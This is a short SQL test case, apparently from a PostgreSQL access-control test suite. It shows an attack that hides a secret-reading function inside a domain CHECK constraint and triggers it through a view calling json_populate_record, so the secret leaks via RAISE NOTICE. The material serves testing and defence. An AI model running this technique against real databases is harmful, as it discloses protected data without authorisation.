-- Selects from a view that makes a row of a table's type, whose domain is checked by a function.
-- wants: read
-- attack:
CREATE FUNCTION f_check(text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN true; END$$;
CREATE DOMAIN evil AS text CHECK (f_check(value));
CREATE TABLE withdomain (id int, d evil);
CREATE VIEW rows_of AS SELECT json_populate_record(NULL::withdomain, '{"d": "x"}') FROM item;
SELECT * FROM rows_of;
